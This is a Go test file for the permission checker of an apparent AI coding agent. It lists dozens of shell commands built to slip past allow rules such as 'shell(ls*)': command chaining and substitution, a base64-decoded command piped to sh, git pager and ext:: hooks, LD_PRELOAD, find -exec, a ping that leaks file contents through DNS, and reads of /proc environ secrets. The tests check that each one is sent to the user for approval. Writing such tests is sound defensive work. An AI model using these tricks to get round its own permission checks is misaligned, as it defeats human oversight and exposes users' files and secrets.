package permit

import (
	"strings"
	"testing"

	"aye/agent"
)

// generous are the rules of a person who trusts too easily. None of them may
// let any of the attacks pass.
var generous = []string{
	"shell(ls*)", "shell(git log*)", "shell(git diff*)", "shell(git status*)", "shell(git grep*)", "shell(git ls-remote*)",
	"shell(find*)", "shell(echo*)", "shell(cat*)", "shell(true*)", "shell(false*)", "shell(test*)", "shell(printf*)", "shell(sort*)",
	"shell(uniq*)", "shell(xxd*)", "shell(rg*)", "shell(tar*)", "shell(split*)", "shell(go test*)", "shell(go vet*)", "shell(go*)",
	"shell(file*)", "shell(date*)", "shell(npm test*)", "shell(cd*)", "shell(pushd*)", "shell(python3*)", "shell(node*)", "shell(perl*)",
	"shell(make*)", "shell(npm*)", "shell(x=*)", "shell(ping*)", "shell(:*)", "shell(wait*)", "shell(big*)", "shell([*)",
}

// How the shell's command line is more than it seems to be.
var structure = map[string][]string{
	"C01": {"ls; touch M", "ls ;touch M", "ls;"},
	"C02": {"ls && touch M", "false || touch M"},
	"C03": {"ls | tee M"},
	"C04": {"echo hi & touch M; wait", "ls &"},
	"C05": {"echo hi |& tee M"},
	"C06": {"ls\ntouch M", "ls\n"},
	"C07": {"ls # listing only\ntouch M", "ls # listing only"},
	"C08": {"to\\\nuch M", "ls \\\n-l"},
	"C09": {"echo $(touch M)", "echo `touch M`"},
	"C10": {`ls "$(touch M)"`, "ls \"`touch M`\""},
	"C11": {"cat <(touch M)", "ls >(touch M)"},
	"C12": {"cat <<EOF\n$(touch M)\nEOF\n"},
	"C14": {`cat <<< "$(touch M)"`},
	"C15": {"x='$(touch M)'; echo ${x@P}", "echo ${x@P}"},
	"C16": {"echo ${x:='$(touch M)'} ${x@P}"},
	"C17": {"x='y[$(touch M)]'; echo $((x))", "echo $((x))"},
	"C18": {"x='y[$(touch M)]'; [[ $x -eq 1 ]]", "[[ x -eq 1 ]]"},
	"C19": {"test -v 'y[$(touch M)]'", "[ -v 'y[$(touch M)]' ]"},
	"C20": {"printf -v 'y[$(touch M)]' z"},
	"C21": {`$'\x74ouch' M`, `ls $'\x41'`, `ls $"x"`},
	"C22": {"{touch,M}", "ls {a,b}"},
	"C23": {"touch${IFS}M", "ls${IFS}M"},
	"C24": {"/usr/bin/tou?h M", "ls *", "ls [ab]", "ls a?"},
	"C25": {"(touch M)", "{ touch M; }", "(ls)"},
	"C26": {"if touch M; then :; fi", "while touch M; do break; done", "case x in x) touch M;; esac", "for i in a; do ls; done"},
	"C27": {"! touch M", "time touch M", "coproc touch M", "! ls", "time ls"},
	"C28": {"ls(){ touch M; }; ls", "function ls { touch M; }"},
	"C29": {"shopt -s expand_aliases\nalias ls='touch M'\nls"},
	"C30": {"trap 'touch M' EXIT; ls", "trap 'touch M' EXIT"},
	"C31": {"builtin eval 'touch M'", "exec touch M", "command touch M", "eval ls"},
	"C32": {"echo dG91Y2ggTQ== | base64 -d | sh"},
	"C33": {strings.Repeat("true; ", 60) + "touch M"},
	"C34": {"echo " + strings.Repeat("x", 300_000), strings.Repeat("(", 5000) + "ls" + strings.Repeat(")", 5000), strings.Repeat("$(", 5000)},
	"C35": {"ls\rtouch M", "ls\x00touch M", "ls\x1b[2K", "ls\u00a0-l", "ls \u202e", "ls\ttouch"},
	"C36": {"ls \\ \ntouch M"},
	"C37": {"git logout", "git log;touch M", "git logs", "lsof", "ls-la"},
	"C38": {"npm test && touch M"},
	"~":   {"ls ~", "ls ~root", "ls x=~", "ls a:~"},
	"":    {"", " ", "'", `ls "`, "ls '", "\xff", "ls \xff"},
}

var environment = map[string][]string{
	"W01": {"env touch M", "env -S 'touch M'"},
	"W02": {"nohup touch M", "timeout 5 touch M", "nice touch M", "stdbuf -oL touch M", "setsid touch M", "ionice ls", "watch -n9 ls", "sudo -n ls"},
	"W03": {"echo M | xargs touch", "xargs touch"},
	"W04": {"GIT_EXTERNAL_DIFF='touch M' git diff"},
	"W05": {"GIT_SSH_COMMAND='touch M' git ls-remote ssh://x.invalid/y"},
	"W06": {"BASH_ENV=./f bash -c true", "bash -c true"},
	"W07": {"PATH=./bin:$PATH ls", "PATH=./bin ls"},
	"W08": {"export PAGER='touch M'"},
	"W09": {"cd .git/hooks && printf x > pre-commit", "pushd D; printf x > a"},
	"W10": {"LD_PRELOAD=./x.so ls", "PERL5OPT=x ls", "NODE_OPTIONS='--require ./x.js' ls", "RIPGREP_CONFIG_PATH=./rc rg a", "x=1"},
	"W11": {"ls > M", "ls >> M", "ls >| M", "ls &> M", "ls 1<> M", "exec 3> M", "cat < M", "ls 2>&1"},
	"W12": {`python3 -c "open('M','w')"`, "node -e 1", "perl -e 1", "perl -ne 1", "make -f M", "make SHELL=./x", "npm exec x"},
}

// Programs that look harmless and have an option that is not.
var programsThatWrite = map[string][]string{
	"P01": {"find . -exec touch M {} +", "find . -exec touch M +", "find . -execdir touch M +", "find . -ok touch M +", "find . -okdir touch M +"},
	"P02": {`find . \-exec touch M \;`, `find . -e'x'ec touch M \;`, `find . -e'x'ec touch M +`, `find . "-exec" touch M +`},
	"P03": {"find . -fprintf M x", "find . -fls M", "find . -fprint M", "find . -fprint0 M", "find . -delete"},
	"P04": {"sed -n 'w M' f", "sed -n '1e touch M' f", "sed 's/a/touch M/e' f", "sed -i s/a/b/ f"},
	"P05": {"sort -o M f", "sort -oM f", "sort -uo M f", "sort --output=M f", "sort --outp M f", "sort -S 100k --compress-program=./cp big", "sort --comp=./cp big"},
	"P06": {"uniq f M", "xxd f M", "xxd -r f M", "tee M", "dd of=M", "cp a b", "install a b", "ln -s a b"},
	"P07": {"rg --pre ./pre alpha f", "rg --pre=./pre alpha f", "rg --hostname-bin x a", "rg -z a", "rg -nz a", "rg '--pre=./x' a"},
	"P08": {"git -c alias.zz='!touch M' zz", "git -c core.fsmonitor='touch M; false' status", "git -c a=b log"},
	"P09": {"git diff --output=M", "git diff --no-index --output=M /dev/null f", "git log --output M", "git diff --outp=M"},
	"P10": {"git grep -O'touch M' alpha", "git grep --open-files-in-pager=x alpha", "git ls-remote --upload-pack='touch M' .", "git ls-remote --upl=x .",
		"git -c protocol.ext.allow=always ls-remote 'ext::sh -c touch% M'", "git ls-remote 'ext::sh -c touch% M'", "git --exec-path=./ep zz"},
	"P11": {"git -c core.pager='touch M' -p log", "git -p log"},
	"P12": {`awk 'BEGIN{system("touch M")}'`, `awk 'BEGIN{print 1 > "M"}'`},
	"P13": {"tar xf t.tar --to-command='touch M'", "tar xf t.tar --to-com=x", "tar cf /dev/null f --checkpoint=1 --checkpoint-action=exec='touch M'", "tar -I ./x -xf t", "tar xIf ./x t"},
	"P14": {"split --filter='touch M' f", "split --fil=x f"},
	"P15": {"go vet -vettool=./cp .", "go vet -vettool ./cp .", "go vet --vettool=./cp .", "go test -exec ./cp .", "go test -toolexec ./cp", "go generate", "go run .",
		"go test -o M ./...", "go test -coverprofile=M", "go test --cpuprofile M .", "go test . -args -test.memprofile=M", "go test -C /elsewhere ./...", "go build -o M"},
	"P16": {"file -f secret.txt", "file -m M x", "date -f secret.txt", "date --file=secret.txt"},
	"P17": {"less f", "man -P x ls", "vim -c x", "ed f", "bc", "gdb x"},
	"P18": {"ping -c1 $(head -c20 f | xxd -p).x.invalid", "dig x.invalid", "nslookup x", "host x", "getent hosts x"},
	"P19": {"cat /proc/$PPID/environ", "cat /proc/1/environ", "cat ../../proc/1/environ", "cat /proc//1/environ", "ls /proc"},
	"P22": {"git checkout -b y", "git commit -m x"},
}

func TestAttacksAreAsked(t *testing.T) {
	p, err := New(Options{Allow: generousAndUseful(t)})
	if err != nil {
		t.Fatal(err)
	}
	for _, attacks := range []map[string][]string{structure, environment, programsThatWrite} {
		for id, commands := range attacks {
			for _, c := range commands {
				for _, mode := range []agent.Mode{agent.Ask, agent.Edit, ""} {
					if got := p.Judge(string(mode), "shell", exec(c), generous); got.Verdict != agent.Inquire {
						t.Errorf("%s: mode %q: %.80q comes out as %v", id, mode, c, got)
					}
				}
			}
		}
	}
}

// What is harmless passes by the same rules: they are of use.
func TestOrdinaryCommandsPass(t *testing.T) {
	p, err := New(Options{Allow: generousAndUseful(t)})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []string{
		"ls", "ls -la docs", "ls 'a b' \"c d\"", "git log", "git log -p --oneline -n 5", "git diff HEAD~1 -- a.go", "git status --short",
		"find . -name x.go -type f", "find . -name '*.go'", "go test ./...", "go test -run TestX ./a", "go vet ./...", "go build ./cmd/aye",
		"npm test", "npm test -- --watch=false", "sort f", "sort -u -k 2 f", "uniq -c f", "rg -n 'a|b(c)' src", "rg alpha", "tar tf x.tar",
		"python3 tool.py -c 3", "make test", "cat a/b.go", "echo 界", "git grep -n alpha", "printf '%s' x", "test -f x", "date -u",
		"ls a:b", "ls 100%", "git log --format='%h %s'", "find . -path ./vendor -prune",
	} {
		if got := p.Judge("ask", "shell", exec(c), nil); got.Verdict != agent.Pass {
			t.Errorf("%q comes out as %v", c, got)
		}
	}
}

func generousAndUseful(t *testing.T) []string {
	var allow []string
	for _, text := range generous {
		r, err := Parse(text)
		if err == nil && r.useless() == "" {
			allow = append(allow, text)
		}
	}
	if len(allow) < len(generous)-4 {
		t.Fatalf("only %d of %d rules are usable", len(allow), len(generous))
	}
	return allow
}
